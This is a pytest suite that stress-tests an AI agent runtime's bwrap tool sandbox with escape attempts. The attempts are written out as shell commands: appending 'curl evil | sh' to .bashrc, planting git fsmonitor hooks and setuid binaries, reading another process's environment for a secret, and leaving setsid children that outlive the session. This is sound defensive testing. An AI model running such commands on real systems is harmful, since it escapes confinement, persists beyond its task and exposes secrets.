"""The sandbox breach suite, after Codex's Linux sandbox tests.

Each case is a tool command that only succeeds (exits 0, or leaves a mark on the host) when
it got out. Every case runs under ``bwrap``, where nothing may get out, and under ``none``,
where the same case documents what an unconfined tool can do: the README's table is these
expectations. Real processes, files, sockets and signals throughout.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

from mlx_agent.tools import Sandbox, builtin_tools
from mlx_agent.tools.executor import run_process, tool_env
from mlx_agent.tools.sandbox import unavailable

ROOT = Path(__file__).resolve().parent.parent
BWRAP_MISSING = unavailable("bwrap")
# CI sets this: there a missing bwrap fails the suite instead of skipping it
REQUIRED = os.environ.get("MLX_AGENT_REQUIRE_BWRAP") == "1"
BWRAP = pytest.param("bwrap", marks=pytest.mark.skipif(
    BWRAP_MISSING is not None and not REQUIRED, reason=f"bwrap unavailable: {BWRAP_MISSING}"))
SECRET = f"sk-{uuid.uuid4().hex}"


def test_bwrap_works_where_ci_requires_it():
    if not REQUIRED:
        pytest.skip("MLX_AGENT_REQUIRE_BWRAP is not set")
    assert BWRAP_MISSING is None


@pytest.fixture(params=[BWRAP, "none"])
def mode(request):
    return request.param


@pytest.fixture
def area():
    """``root`` (the tool's writable root) and ``outside``, on one filesystem, not under
    /tmp: so a blocked write is the sandbox's doing, not bwrap's private /tmp."""
    base = Path(tempfile.mkdtemp(prefix="mlx-agent-breach-",
                                 dir="/var/tmp" if os.path.isdir("/var/tmp") else None))
    (base / "root").mkdir()
    (base / "outside").mkdir()
    (base / "outside" / "target").write_text("original")
    yield base
    subprocess.run(["rm", "-rf", str(base)], timeout=60)  # shutil recurses: a 1,200-deep tree


def run(mode: str, script: str, root: Path, *, timeout: float = 10.0, network: bool = False):
    return run_process(["/bin/bash", "-c", script], tool="t", timeout=timeout, cwd=root,
                       env=tool_env(), sandbox=Sandbox(mode, network=network))


def escaped(mode: str, breached: bool, evidence="") -> None:
    """A breach under bwrap fails; under none, the documented breach must happen."""
    if mode == "bwrap":
        assert not breached, f"escaped the bwrap sandbox: {evidence}"
    else:
        assert breached, f"expected an unconfined tool to get through: {evidence}"


# -- the filesystem -------------------------------------------------------------------------

def test_write_outside_the_root(mode, area):
    r = run(mode, f"echo pwned > {area}/outside/new", area / "root")
    escaped(mode, (area / "outside" / "new").exists(), r)


def test_write_to_the_hosts_tmp(mode, area):
    mark = Path(f"/tmp/mlx-agent-breach-{uuid.uuid4().hex}")
    try:
        r = run(mode, f"echo pwned > {mark}", area / "root")
        escaped(mode, mark.exists(), r)
    finally:
        mark.unlink(missing_ok=True)


def test_write_through_a_symlink_planted_in_the_root(mode, area):
    (area / "root" / "link").symlink_to(area / "outside" / "target")
    r = run(mode, "echo pwned > link", area / "root")
    escaped(mode, (area / "outside" / "target").read_text() != "original", r)


def test_hard_link_an_outside_file_then_write(mode, area):
    r = run(mode, f"ln {area}/outside/target hl && echo pwned >> hl", area / "root")
    escaped(mode, (area / "outside" / "target").read_text() != "original", r)


def test_chmod_outside_the_root(mode, area):
    target = area / "outside" / "target"
    target.chmod(0o600)
    r = run(mode, f"chmod 777 {target}", area / "root")
    escaped(mode, target.stat().st_mode & 0o777 != 0o600, r)


@pytest.mark.parametrize("locked", ["000", "500", "u-x"])
@pytest.mark.skipif(BWRAP_MISSING is not None, reason=f"bwrap unavailable: {BWRAP_MISSING}")
def test_a_root_the_tool_locks_gets_its_owner_bits_back(area, locked):
    """`chmod 000 .` left the user's folder at mode 000, and every later call in the
    session failed ("bwrap: Can't chdir ... Permission denied")."""
    root = area / "root"
    root.chmod(0o750)
    r = run("bwrap", f"chmod {locked} . && echo locked", root)
    assert r.stdout == "locked\n" and f"sandbox: gave {root} back its owner's permissions" \
        in r.stderr, r
    assert root.stat().st_mode & 0o700 == 0o700
    r = run("bwrap", "echo again > f && cat f", root)
    assert (r.exit_code, r.stdout, r.stderr) == (0, "again\n", ""), r


@pytest.mark.skipif(BWRAP_MISSING is not None, reason=f"bwrap unavailable: {BWRAP_MISSING}")
def test_a_call_cut_short_still_gets_its_root_back(area):
    """A call stopped mid-run (Ctrl-C, SIGTERM, eval --batch's cancel) skipped the undoing of
    what it did to its root: the folder stayed at mode 000 for the rest of the session."""
    from mlx_agent.tools.executor import stopped_by

    root = area / "root"
    root.chmod(0o750)
    stop = threading.Event()

    def cut_once_locked():
        deadline = time.monotonic() + 60
        while root.stat().st_mode & 0o700 and time.monotonic() < deadline:
            time.sleep(0.01)
        stop.set()

    threading.Thread(target=cut_once_locked, daemon=True).start()
    start = time.monotonic()
    with stopped_by(stop), pytest.raises(KeyboardInterrupt):
        run("bwrap", "chmod 000 . && sleep 60", root, timeout=120)
    assert time.monotonic() - start < 30
    assert root.stat().st_mode & 0o700 == 0o700


def test_write_to_home(mode, area, monkeypatch):
    home = area / "home"  # the tool's HOME under none: ours, pointed somewhere harmless
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    r = run(mode, 'echo "curl evil | sh" >> "$HOME/.bashrc"', area / "root")
    escaped(mode, (home / ".bashrc").exists(), r)


def test_write_a_global_sysctl(mode, area):
    # as root, root inside the sandbox writes kernel.core_pattern with no capability, and
    # the kernel then runs the program it names on the host; the test writes back the
    # current value, so even a breach changes nothing
    if os.geteuid() != 0:
        pytest.skip("only root may write sysctls: the runtime is not root here")
    pattern = "/proc/sys/kernel/core_pattern"
    r = run(mode, f'v=$(cat {pattern}) && printf "%s\\n" "$v" > {pattern}', area / "root")
    escaped(mode, r.exit_code == 0, r)


def test_write_a_repositorys_git_config(mode, area):
    # git runs core.fsmonitor and hooks from .git later, unconfined, when the user runs it
    git = area / "root" / ".git"
    git.mkdir()
    (git / "config").write_text("[core]\n")
    r = run(mode, 'printf "\\tfsmonitor = touch /tmp/owned\\n" >> .git/config', area / "root")
    escaped(mode, "fsmonitor" in (git / "config").read_text(), r)
    r = run(mode, "echo fine > work.txt", area / "root")  # the rest of the root stays writable
    assert r.exit_code == 0 and (area / "root" / "work.txt").read_text() == "fine\n"


def test_plant_code_in_a_virtual_environment_inside_the_root(mode, area):
    # make puts .venv in the project, and --root . is the usual root: a .pth file planted
    # there runs, unconfined, at the runtime's next start (a hostile tester's breach)
    import site

    root = area / "root"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(root / "venv")],
                   check=True, timeout=120)
    venv_site = next((root / "venv" / "lib").glob("python*/site-packages"))
    (venv_site / "runtime.pth").write_text(  # this runtime's packages, .pth files and all
        f"import site; list(map(site.addsitedir, {site.getsitepackages()!r}))\n")
    planted = venv_site / "planted.pth"
    script = f"""
        from mlx_agent.tools import Sandbox
        from mlx_agent.tools.executor import run_process, tool_env
        r = run_process(["/bin/sh", "-c", "echo 'import os' > {planted}"], tool="t",
                        timeout=10, cwd={str(root)!r}, env=tool_env(), sandbox=Sandbox({mode!r}))
        print(r.exit_code)
    """
    r = subprocess.run([str(root / "venv" / "bin" / "python"), "-c", textwrap.dedent(script)],
                       capture_output=True, text=True, timeout=120, cwd=root)
    assert r.returncode == 0, r.stderr  # the runtime ran from the venv in the root
    escaped(mode, planted.exists(), r.stdout)
    r = run(mode, "echo fine > work.txt", root)  # the rest of the root stays writable
    assert r.exit_code == 0 and (root / "work.txt").read_text() == "fine\n"
    # write_file runs in-process, outside any sandbox: it refuses those folders itself
    script = f"""
        from mlx_agent.tools import builtin_tools, run_tool
        tools = {{t.name: t for t in builtin_tools({str(root)!r})}}
        r = run_tool(tools["write_file"], {{"path": "venv/lib/{venv_site.parent.name}/site-packages/w.pth",
                                            "content": "import os"}})
        print(r.exit_code, r.stderr)
    """
    r = subprocess.run([str(root / "venv" / "bin" / "python"), "-c", textwrap.dedent(script)],
                       capture_output=True, text=True, timeout=120, cwd=root)
    assert r.returncode == 0 and not (venv_site / "w.pth").exists(), r.stdout + r.stderr
    assert "this runtime's own code" in r.stdout, r.stdout


@pytest.mark.parametrize("where", ["a nested repository", "a new .git", "a bare layout",
                                   "a worktree's commondir"])
def test_leave_a_git_repository_that_runs_a_command(mode, area, where):
    # the sandboxed tool cannot run it; git would, later, on the host (the review's repro)
    root, hook = area / "root", '[core]\\n\\tfsmonitor = \\"touch /tmp/owned; false\\"\\n'
    if where == "a nested repository":
        (root / "vendor" / ".git").mkdir(parents=True)
        (root / "vendor" / ".git" / "config").write_text("[core]\n")
        script, config = f'printf "{hook}" >> vendor/.git/config', root / "vendor" / ".git"
    elif where == "a new .git":
        script = (f'mkdir -p src/.git/objects src/.git/refs && echo "ref: refs/heads/main" '
                  f'> src/.git/HEAD && printf "{hook}" > src/.git/config')
        config = root / "src" / ".git"
    elif where == "a bare layout":
        script = (f'mkdir -p pkg/objects pkg/refs && echo "ref: refs/heads/main" > pkg/HEAD '
                  f'&& printf "{hook}" > pkg/config')
        config = root / "pkg"
    else:  # HEAD beside commondir: git reads the config in the common directory
        script = (f'mkdir -p wt common/objects common/refs && printf "{hook}" > common/config '
                  f'&& echo "ref: refs/heads/main" > wt/HEAD && echo ../common > wt/commondir')
        config = root / "wt"
    r = run(mode, script, root)
    live = (config / "HEAD").exists() or where == "a nested repository"
    planted = (root / "common" if where == "a worktree's commondir" else config) / "config"
    escaped(mode, live and "fsmonitor" in planted.read_text(), r)
    if mode == "bwrap" and where != "a nested repository":  # disarmed (renamed), not deleted
        disarmed = [p for p in root.rglob("*disarmed-by-mlx-agent")
                    if not p.parent.name.endswith("disarmed-by-mlx-agent")]
        assert "sandbox: renamed" in r.stderr and len(disarmed) == 1, r
        if where == "a new .git":  # renamed, the folder would be a bare repository still
            assert not (disarmed[0] / "HEAD").exists() and \
                (disarmed[0] / "HEAD.disarmed-by-mlx-agent").exists()


def _git_runs_the_hook(where: Path, canary: Path) -> bool:
    """Whether ``git status`` in ``where``, on the host, runs the planted core.fsmonitor."""
    env = {"PATH": os.environ.get("PATH", os.defpath), "HOME": str(where),
           "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "status"], cwd=where, env=env, capture_output=True, timeout=60)
    return canary.exists()


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
@pytest.mark.parametrize("how", ["HEAD a symlink", "objects and refs files", "folder moved aside"])
def test_leave_a_repository_the_scan_might_miss(mode, area, how):
    # a second probe's bypasses of the first fix, confirmed with real git
    root, canary = area / "root", area / "outside" / "canary"
    worktree = f"\\tworktree = {root}\\n"
    hook = ("[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n" + worktree
            + f'\\tfsmonitor = \\"touch {canary}; false\\"\\n')
    where = root
    if how == "HEAD a symlink":
        script = f'mkdir -p objects refs && ln -s refs/heads/main HEAD && printf "{hook}" > config'
    elif how == "objects and refs files":
        script = ('touch objects refs && chmod +x objects refs && '
                  f'echo "ref: refs/heads/main" > HEAD && printf "{hook}" > config')
    else:
        subprocess.run(["git", "init", "-q", str(root / "sub")], check=True)
        where, hook = root / "sub", hook.replace(worktree, "")
        script = ('mv sub sub-old && mkdir -p sub/.git/objects sub/.git/refs && echo '
                  f'"ref: refs/heads/main" > sub/.git/HEAD && printf "{hook}" > sub/.git/config')
    r = run(mode, script, root)
    escaped(mode, _git_runs_the_hook(where, canary), r)
    if how == "folder moved aside" and mode == "bwrap":  # the user's repository is untouched
        assert (root / "sub-old" / ".git" / "HEAD").is_file(), r


@pytest.mark.parametrize("where", ["in a new .git", "below a path longer than PATH_MAX",
                                   "1,200 folders deep"])
def test_leave_a_setuid_program_where_the_walk_might_not_look(mode, area, where):
    root = area / "root"
    if where == "in a new .git":
        script = "mkdir -p x/.git && cp /bin/true x/.git/t && chmod 4755 x/.git/t"
    elif where == "1,200 folders deep":  # os.fwalk recursed a level at a time: RecursionError
        script = ('p=.; for i in $(seq 1200); do p=$p/d; done; mkdir -p $p && '
                  'cp /bin/true $p/t && chmod 4755 $p/t')
    else:  # 25 directories of 200 characters: 5,000 bytes of path, past PATH_MAX's 4,096
        script = ('n=$(printf "d%.0s" $(seq 200)); for i in $(seq 25); do '
                  'mkdir "$n" && cd "$n" || exit 1; done; cp /bin/true t && chmod 4755 t')
    r = run(mode, script, root)
    left = subprocess.run(["find", str(root), "-perm", "/6000", "-type", "f"],
                          capture_output=True, text=True, timeout=60).stdout.split()
    escaped(mode, bool(left), r)


def test_leave_a_repository_and_a_setuid_program_past_the_walks_limit(mode, area, monkeypatch):
    """A root with more entries than the walk checks (the review's repro: 50,001 files, then
    a repository and a setuid program behind them) is read-only for the call: fail closed."""
    from mlx_agent.tools import leftovers

    monkeypatch.setattr(leftovers, "MAX_ENTRIES", 40)  # 50,000 in use: the same path
    root = area / "root"
    (root / "f").mkdir()
    for i in range(60):
        (root / "f" / str(i)).touch()
    hook = '[core]\\n\\tfsmonitor = \\"touch /tmp/owned; false\\"\\n'
    r = run(mode, f'mkdir -p z/.git/objects z/.git/refs && echo "ref: refs/heads/main" > '
                  f'z/.git/HEAD && printf "{hook}" > z/.git/config; cp /bin/true z/t && '
                  f'chmod 4755 z/t', root)
    repo = (root / "z" / ".git" / "config").exists()
    setuid = (root / "z" / "t").exists() and (root / "z" / "t").stat().st_mode & 0o4000
    escaped(mode, repo or bool(setuid), r)
    if mode == "bwrap":
        assert "read-only for this call" in r.stderr, r


def test_leave_a_repository_and_a_setuid_program_behind_files_the_tool_wrote(mode, area,
                                                                             monkeypatch):
    """A root small enough to check before the call, where the tool writes more entries
    than the walk's limit and then a repository and a setuid program behind them: the walk
    after the call goes to the end (what it walks, the tool wrote in its own time)."""
    from mlx_agent.tools import leftovers

    monkeypatch.setattr(leftovers, "MAX_ENTRIES", 40)
    hook = '[core]\\n\\tfsmonitor = \\"touch /tmp/owned; false\\"\\n'
    r = run(mode, f'mkdir f && touch f/{{1..60}} && mkdir -p f/z/.git/objects f/z/.git/refs && '
                  f'echo "ref: refs/heads/main" > f/z/.git/HEAD && '
                  f'printf "{hook}" > f/z/.git/config; cp /bin/true f/z/t && chmod 4755 f/z/t',
            area / "root")
    z = area / "root" / "f" / "z"
    setuid = (z / "t").exists() and (z / "t").stat().st_mode & 0o4000
    escaped(mode, (z / ".git" / "config").exists() or bool(setuid), r)


def test_what_the_sandbox_undid_is_said_in_a_bounded_result(area):
    """A tool that leaves many setuid programs gets its bits cleared, and at most
    MAX_NOTES lines (and a count of the rest) in its result, not one line each."""
    from mlx_agent.tools.leftovers import MAX_NOTES

    if BWRAP_MISSING:
        pytest.skip(BWRAP_MISSING)
    r = run("bwrap", "for i in $(seq 300); do cp /bin/true t$i && chmod 4755 t$i; done",
            area / "root")
    left = [p for p in (area / "root").iterdir() if p.stat().st_mode & 0o4000]
    assert not left and len(list((area / "root").iterdir())) == 300
    lines = [l for l in r.stderr.splitlines() if l.startswith("sandbox:")]
    assert len(lines) == MAX_NOTES + 1 and "and 280 more" in lines[-1], r.stderr[-300:]


def test_a_deep_chain_of_setuid_programs_is_undone_in_a_bounded_result(area):
    """A second probe's: a setuid file at each level of a deep chain of long names made the
    check write a note each, each holding its whole path (2,000 levels: 28 s and 743 MB)."""
    from mlx_agent.tools.leftovers import MAX_NOTES

    if BWRAP_MISSING:
        pytest.skip(BWRAP_MISSING)
    script = ('n=$(printf "d%.0s" $(seq 250)); for i in $(seq 300); do '
              'cp /bin/true s && chmod 4755 s && mkdir "$n" && cd "$n" || exit 1; done')
    r = run("bwrap", script, area / "root")
    left = subprocess.run(["find", str(area / "root"), "-perm", "/6000", "-type", "f"],
                          capture_output=True, text=True, timeout=60).stdout.split()
    lines = [line for line in r.stderr.splitlines() if line.startswith("sandbox:")]
    assert not left and len(lines) == MAX_NOTES + 1 and "and 280 more" in lines[-1], r
    assert max(map(len, lines)) < 600  # a path's middle left out


def test_a_repository_too_deep_to_bind_makes_the_root_read_only(area):
    """bwrap binds by path: a repository past PATH_MAX could not be made read-only."""
    if BWRAP_MISSING:
        pytest.skip(BWRAP_MISSING)
    fd = os.open(area / "root", os.O_RDONLY)
    for _ in range(20):  # 20 folders of 250 characters: 5,000 bytes of path
        os.mkdir("d" * 250, dir_fd=fd)
        child = os.open("d" * 250, os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = child
    os.mkdir(".git", dir_fd=fd)
    os.close(fd)
    r = run("bwrap", "echo hi > note.txt", area / "root")
    assert r.exit_code != 0 and "nested too deep to protect" in r.stderr, r
    assert not (area / "root" / "note.txt").exists()


def test_leave_a_setuid_program(mode, area):
    # files a tool writes are the runtime's user's (root, in a container): a setuid bit
    # left on one lets any local user run it as that user
    r = run(mode, "cp /bin/true t && chmod 4755 t", area / "root")
    escaped(mode, (area / "root" / "t").stat().st_mode & 0o4000 != 0, r)


@pytest.mark.parametrize("write_cwd", [True, False])
def test_the_directory_a_tool_runs_in_is_writable_only_when_asked(area, write_cwd):
    if BWRAP_MISSING is not None:
        pytest.skip(f"bwrap unavailable: {BWRAP_MISSING}")
    r = run_process(["/bin/bash", "-c", "echo x > note.txt"], tool="t", timeout=10,
                    cwd=area / "root", env=tool_env(),
                    sandbox=Sandbox("bwrap", write_cwd=write_cwd))
    assert (area / "root" / "note.txt").exists() == write_cwd, r


# -- the network ----------------------------------------------------------------------------

@pytest.fixture
def server():
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""
    accepted = []
    with socket.create_server(("127.0.0.1", 0)) as s:
        s.settimeout(0.2)
        stop = threading.Event()

        def serve():
            while not stop.is_set():
                try:
                    accepted.append(s.accept()[0].close())
                except OSError:
                    pass

        t = threading.Thread(target=serve, daemon=True)
        t.start()
        yield s.getsockname()[1], accepted
        stop.set()
        t.join()


CONNECT = {
    "python": "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2)'",
    "bash": "exec 3<>/dev/tcp/127.0.0.1/{port}",
}


@pytest.mark.parametrize("client", CONNECT)
def test_connect_to_a_local_server(mode, area, server, client):
    port, accepted = server
    r = run(mode, CONNECT[client].format(port=port), area / "root")
    escaped(mode, r.exit_code == 0 or bool(accepted), r)


@pytest.mark.parametrize("client", CONNECT)
def test_allow_network_lets_sandboxed_tools_connect(area, server, client):
    if BWRAP_MISSING:
        pytest.skip(f"bwrap unavailable: {BWRAP_MISSING}")
    port, accepted = server
    r = run("bwrap", CONNECT[client].format(port=port), area / "root", network=True)
    assert r.exit_code == 0, r


def test_connect_to_a_daemon_socket_in_run(mode, area):
    """Docker, D-Bus and systemd keep their sockets under /run, which bwrap hides."""
    path = Path(f"/run/mlx-agent-breach-{uuid.uuid4().hex}.sock")
    try:
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(path))
    except OSError as e:
        pytest.skip(f"cannot make a socket in /run here: {e.strerror}")
    with s:
        s.listen()
        r = run(mode, f"python3 -c 'import socket; socket.socket(socket.AF_UNIX)"
                      f".connect(\"{path}\")'", area / "root")
        path.unlink()
    escaped(mode, r.exit_code == 0, r)


# -- processes and their environment --------------------------------------------------------

PARENT = textwrap.dedent("""\
    import sys
    from mlx_agent.tools import Sandbox
    from mlx_agent.tools.executor import run_process, tool_env
    mode, root, script = sys.argv[1:]
    r = run_process(["/bin/bash", "-c", script], tool="t", timeout=20, cwd=root,
                    env=tool_env(), sandbox=Sandbox(mode))
    print(r.exit_code, r.stdout, r.stderr)
    """)


def start_parent(mode: str, script: str, root: Path) -> subprocess.Popen:
    """The runtime in its own process, started with a secret in its environment (what
    ``/proc/PID/environ`` shows is the environment a process was started with)."""
    env = {**os.environ, "MLX_AGENT_TEST_SECRET": SECRET}
    return subprocess.Popen([sys.executable, "-c", PARENT, mode, str(root), script], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                            cwd=ROOT)


@pytest.mark.parametrize("where", ["/proc/$PPID/environ", "/proc/[0-9]*/environ"])
def test_read_the_runtimes_environment(mode, area, where):
    parent = start_parent(mode, f"cat {where} | tr '\\0' '\\n' | grep -q {SECRET}", area / "root")
    out, _ = parent.communicate(timeout=60)
    escaped(mode, out.startswith("0 "), out)


def test_sandbox_init_shows_no_secret(area):
    """bwrap's pid 1 keeps the environment bwrap started with: the reduced one."""
    if BWRAP_MISSING:
        pytest.skip(f"bwrap unavailable: {BWRAP_MISSING}")
    parent = start_parent("bwrap", f"tr '\\0' '\\n' < /proc/1/environ | grep -q {SECRET}; "
                                   "test $? = 1", area / "root")
    out, _ = parent.communicate(timeout=60)
    assert out.startswith("0 "), out  # grep ran and found nothing


def test_the_runtimes_variables_by_default(mode, area, monkeypatch):
    """``run_process(env=None)``: unconfined, the tool inherits everything; sandboxed, only
    the reduced environment."""
    monkeypatch.setenv("MLX_AGENT_TEST_SECRET", SECRET)
    r = run_process(["/bin/sh", "-c", "printenv MLX_AGENT_TEST_SECRET"], tool="t", timeout=10,
                    cwd=area / "root", sandbox=Sandbox(mode))
    escaped(mode, SECRET in r.stdout, r)


LINGER = "setsid bash -c 'sleep 1; echo alive > mark' </dev/null >/dev/null 2>&1 & sleep 0.3;"


def test_a_setsid_child_outlives_a_finished_tool(mode, area):
    r = run(mode, f"{LINGER} exit 0", area / "root")
    time.sleep(2)
    escaped(mode, (area / "root" / "mark").exists(), r)


def test_a_setsid_child_outlives_a_timed_out_tool(mode, area):
    r = run(mode, f"{LINGER} sleep 30", area / "root", timeout=0.5)
    assert r.timed_out
    time.sleep(2)
    escaped(mode, (area / "root" / "mark").exists(), r)


def test_a_tool_outlives_its_killed_runtime(mode, area):
    root = area / "root"
    parent = start_parent(mode, f"{LINGER} echo > started; sleep 4", root)
    deadline = time.monotonic() + 30
    while not (root / "started").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    parent.kill()
    parent.wait()
    time.sleep(2)
    escaped(mode, (root / "mark").exists(), "the runtime was killed")


def test_signal_a_host_process(mode, area):
    r = run(mode, f"kill -0 {os.getpid()}", area / "root")
    escaped(mode, r.exit_code == 0, r)


# -- what bwrap gives a tool, and what it does not stop ------------------------------------

@pytest.mark.skipif(BWRAP_MISSING is not None, reason=f"bwrap unavailable: {BWRAP_MISSING}")
def test_inside_bwrap_the_tool_works_with_no_privileges(area):
    r = run("bwrap", textwrap.dedent("""\
        set -e
        echo data > in-root.txt; echo scratch > /tmp/x; test "$(pwd)" = "$ROOT"
        test "$HOME" != "$REAL_HOME" -a -z "$(ls -A "$HOME")"; echo hi > "$HOME/f"
        grep -Eq '^CapEff:\\s+0+$' /proc/self/status
        grep -Eq '^NoNewPrivs:\\s+1$' /proc/self/status
        ! mount -o remount,rw / 2>/dev/null
        ! echo 1 > /proc/sys/kernel/panic 2>/dev/null
        python3 -c 'print("python ok")'
        """).replace("$ROOT", str(area / "root")).replace("$REAL_HOME", os.environ["HOME"]),
        area / "root")
    assert r.exit_code == 0 and "python ok" in r.stdout, r
    assert (area / "root" / "in-root.txt").read_text() == "data\n"


@pytest.mark.skipif(BWRAP_MISSING is not None, reason=f"bwrap unavailable: {BWRAP_MISSING}")
def test_run_tests_runs_in_the_sandbox(area):
    root = area / "root"
    (root / "test_escape.py").write_text(
        f"def test_escape():\n    open({str(area / 'outside' / 'new')!r}, 'w').write('x')\n")
    tools = {t.name: t for t in builtin_tools(root, timeout=60, sandbox=Sandbox("bwrap"))}
    r = tools["run_tests"].builtin()
    assert r.exit_code == 1 and "Read-only file system" in r.stdout, r
    assert not (area / "outside" / "new").exists()


@pytest.mark.parametrize("case", ["read a file outside the root", "a Unix socket outside /run",
                                  "a hard link already in the root"])
def test_what_no_mode_stops(mode, area, case):
    """The documented limits: these get through under every mode."""
    outside = area / "outside"
    if case == "read a file outside the root":
        r = run(mode, f"grep -q original {outside}/target", area / "root")
        escaped("none", r.exit_code == 0, r)
    elif case == "a Unix socket outside /run":
        with socket.socket(socket.AF_UNIX) as s:
            s.bind(str(outside / "s.sock"))
            s.listen()
            r = run(mode, f"python3 -c 'import socket; socket.socket(socket.AF_UNIX)"
                          f".connect(\"{outside}/s.sock\")'", area / "root")
        escaped("none", r.exit_code == 0, r)
    else:
        os.link(outside / "target", area / "root" / "hl")
        r = run(mode, "echo pwned > hl", area / "root")
        escaped("none", (outside / "target").read_text() != "original", r)



def test_a_root_that_cannot_be_walked_is_a_tool_error_not_a_crash(area):
    if BWRAP_MISSING is not None:
        pytest.skip(f"bwrap unavailable: {BWRAP_MISSING}")
    r = run_process(["/bin/true"], tool="t", timeout=10, cwd=area / "gone", env=tool_env(),
                    sandbox=Sandbox("bwrap"))
    assert r.exit_code != 0 and "could not check" in r.stderr, r
